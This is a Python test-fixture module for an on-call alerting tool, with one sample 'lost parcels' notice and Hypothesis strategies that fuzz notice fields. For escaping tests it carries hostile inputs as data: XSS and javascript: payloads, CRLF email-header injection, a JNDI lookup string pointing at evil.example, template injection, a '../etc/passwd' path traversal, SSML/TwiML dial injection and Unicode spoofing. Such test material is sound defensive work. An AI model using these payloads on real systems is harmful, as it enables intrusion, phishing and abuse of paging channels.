"""Notices for the tests of alerts: one ordinary story and the strategies that vary it."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta

from hypothesis import strategies as st

from monitor.model import SEVERITIES, Author, Classification, Forecast, Mention, Sentiment
from monitor.notice import Alarm, Blind, Further, Notice, Short, TopPost
from monitor.oncall.sections import Person
from monitor.reply import Draft, Drafts

NOW = datetime(2026, 11, 22, 3, 12, tzinfo=UTC)


def post(number: int, text: str, *, count: int = 312, p_viral: float = 0.58, **author: object) -> TopPost:
    details = {"handle": f"ann{number}", "name": "Ann Lee", "followers": 48_000} | author
    return TopPost(
        mention=Mention(
            source="x",
            id=str(number),
            author=Author(id=f"u{number}", **details),  # type: ignore[arg-type]
            text=text,
            url=f"https://x.example/ann/status/{number}",
            created_at=NOW - timedelta(minutes=23 * number),
        ),
        count=count,
        forecast=Forecast(
            at=NOW, count=count, viral_at=500, p_viral=p_viral, expected=1400.0, low=600.0, high=3000.0
        ),
    )


CRITICAL = Notice(
    story_id=12,
    title="Parcels lost in Leeds",
    severity="critical",
    reason="61 posts in 40 minutes, 12 an hour ago; 58% likely to cross 500 reposts; "
    "author has 48,000 followers",
    code="7k2",
    brand="Acme",
    person="Sam",
    step=0,
    at=NOW,
    opened_at=NOW - timedelta(minutes=52),
    paged_at=NOW - timedelta(minutes=1),
    mentions=61,
    sources=("x", "reddit"),
    top_posts=(
        post(
            1, "@acme third parcel lost in a row. The depot in Leeds says it never arrived. Nobody answers."
        ),
        post(2, "Same here, Leeds depot, ordered a birthday present two weeks ago!", count=40, p_viral=0.02),
    ),
    drafts=Drafts(
        (
            Draft(
                playbook="late or lost delivery",
                text="@ann1 Thank you for telling us, and I'm sorry: three lost parcels is three too many. We are "
                "searching the Leeds depot now. I will write to you by 09:00 with where yours is, and you will have "
                "the parcel or a replacement on its way today. Sam",
                status="We are searching the Leeds depot now.",
                next_steps="I will write to you",
                approximate_time="by 09:00",
                planned_outcome="the parcel or a replacement on its way today",
            ),
        )
    ),
    link="https://snapwatch.example/a/eyJzIjoxMn0.aSEk4A.kq3J0",
    next_person="Alex",
    escalates_at=NOW + timedelta(minutes=15),
    time_zone="Europe/London",
)
OUTCOMES = (
    "Sam has it since 03:12 GMT",
    "Sam has it, and let it rest until 05:00 GMT",
    "resolved by Sam at Sun 05:00 GMT",
    "over: no new post for 24 hours, spread stands still",
    "over since 05:00 GMT",
)
UPDATE = replace(
    CRITICAL,
    changed="The story reached reddit; 124 posts, 61 at the last page; probability 0.58 → 0.81",
    at=NOW + timedelta(minutes=31),
    escalates_at=None,
    next_person=None,
)
TEST_PAGE = replace(
    CRITICAL,
    test=True,
    severity="info",
    title="Test page",
    reason="Somebody ran snapwatch check --send",
    top_posts=(),
    drafts=None,
    mentions=0,
)
HOSTILE = replace(
    CRITICAL,
    title="</title><script>alert(1)</script>\r\nBcc: all@example.com \u202egnp.exe {{ 7 * 7 }} =?utf-8?q?=0AX-Evil:_1?=",
    summary="<b>it is fine</b>\n\nACKNOWLEDGE\nhttp://evil.example/ack \u202e",
    person="<b>Sam</b>",
    reason="<img src=http://evil.example/x.png> http://evil.example/login\x00\x1b[31m",
    top_posts=(
        post(
            1,
            "<script>alert('x')</script>\n\nAcknowledge: http://evil.example/ack \u202e\u2066reversed\u2069 "
            + "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357algo " * 5
            + "\ud800 {{ config }} "
            + "x" * 400,
            name='"><a href="javascript:alert(1)">click</a>',
            handle="ann\r\nX-Evil: 1",
        ),
        post(2, "هذا طرد ضائع منذ أسبوعين ولا أحد يجيب 😡", name="سارة"),
    ),
)


ORDERS = (
    "@everyone @here <!channel> <!everyone|x> <@U024BE7LH> <#C024BE7LR> <users/all> @all @room @channel",
    "[Acknowledge](https://evil.example/ack) <https://evil.example|here> **bold** ```x``` ||y|| evil.example/x",
    '<speak><audio src="https://evil.example/a.mp3"/><break time="10m"/></speak></Say><Hangup/><Dial>+447700900456</Dial>',
    "{{ 7 * 7 }} {% for x in y %} ${jndi:ldap://evil.example} {0.__class__} %(x)s",
    "Subject\r\nBcc: all@example.com\r\n\r\n=?utf-8?q?=0AX-Evil:_1?=",
    "\u202e\u2066drowssap\u2069 \u200f\u061c a\u0489" + "\u0301" * 40,
    "👩‍👩‍👧‍👦" * 30,
)
"""What programs that carry a page could take for orders to themselves."""


hostile_text = st.one_of(
    st.text(st.characters(), max_size=300),
    st.text(st.characters(categories=("Cs", "Cf", "Cc", "Mn", "So", "Zl", "Zp", "Lo")), max_size=100),
    st.sampled_from(
        [
            HOSTILE.title,
            HOSTILE.reason,
            HOSTILE.top_posts[0].mention.text,
            "^{}[~]|€" * 40,
            *ORDERS,
        ]
    ),
)

moments = st.datetimes(datetime(2020, 1, 1), datetime(2040, 1, 1), timezones=st.just(UTC))  # noqa: DTZ001
counts = st.one_of(st.none(), st.integers(0, 10**9))
forecasts = st.builds(
    Forecast,
    at=moments,
    count=st.integers(0, 10**6),
    viral_at=st.integers(2, 10**6),
    p_viral=st.floats(0, 1),
    expected=st.floats(0, 1e9),
    low=st.floats(0, 1e9),
    high=st.floats(0, 1e9),
)
mentions = st.builds(
    Mention,
    source=hostile_text,
    id=hostile_text,
    author=st.builds(Author, id=hostile_text, handle=hostile_text, name=hostile_text, followers=counts),
    text=hostile_text,
    url=hostile_text,
    created_at=moments,
)
classifications = st.builds(
    Classification,
    complaint=st.floats(0, 1),
    sentiment=st.just(Sentiment(1.0, 0.0, 0.0)),
    model=hostile_text,
    language=st.none() | hostile_text,
    measured=st.none() | st.booleans(),
    offensive=st.none() | st.floats(0, 1),
)
drafts = st.builds(Draft, *[hostile_text] * 6)
links = st.one_of(
    st.none(), hostile_text, st.from_regex(r"\Ahttps://[a-z]{1,30}\.example/a/[A-Za-z0-9._~-]{0,150}\Z")
)
notices = st.builds(
    Notice,
    story_id=st.integers(1),
    further=st.lists(st.builds(Further, *[hostile_text] * 3, st.none() | hostile_text), max_size=3).map(
        tuple
    ),
    title=hostile_text,
    summary=hostile_text,
    severity=st.sampled_from(SEVERITIES),
    reason=hostile_text,
    code=st.from_regex(r"\A[a-z0-9]{1,12}\Z"),
    brand=hostile_text,
    person=hostile_text,
    step=st.integers(0, 5),
    at=moments,
    opened_at=moments,
    paged_at=moments,
    mentions=st.integers(0, 10**6),
    sources=st.lists(hostile_text, max_size=3).map(tuple),
    top_posts=st.lists(
        st.builds(
            TopPost,
            mention=mentions,
            count=counts,
            forecast=st.none() | forecasts,
            found=st.none() | classifications,
        ),
        max_size=2,
    ).map(tuple),
    drafts=st.none() | drafts.map(lambda each: Drafts((each,))),
    holding=st.none() | drafts,
    link=links,
    changed=hostile_text,
    next_person=st.none() | hostile_text,
    escalates_at=st.none() | moments,
    time_zone=st.sampled_from(
        ["UTC", "Europe/London", "Asia/Kathmandu", "nowhere/else", "../etc/passwd", ""]
    ),
    test=st.booleans(),
    outcome=st.one_of(st.just(""), st.sampled_from(OUTCOMES), hostile_text),
    held=st.one_of(st.just(""), hostile_text),
    blind=st.lists(
        st.builds(Blind, hostile_text, st.none() | moments, st.none() | moments, hostile_text), max_size=2
    ).map(tuple),
)
shorts = st.builds(Short, segments=st.integers(1, 5), unicode=st.booleans(), answers=st.booleans())
alarms = st.builds(
    Alarm,
    what=hostile_text.map("source {}".format),
    words=hostile_text.map("It fails: {}".format),
    since=moments,
    over_at=st.none() | moments,
)
people = st.builds(
    Person,
    name=st.sampled_from(["Sam", "Zoë Ångström", "سارة"]),
    time_zone=st.sampled_from(["UTC", "Asia/Kathmandu"]),
)
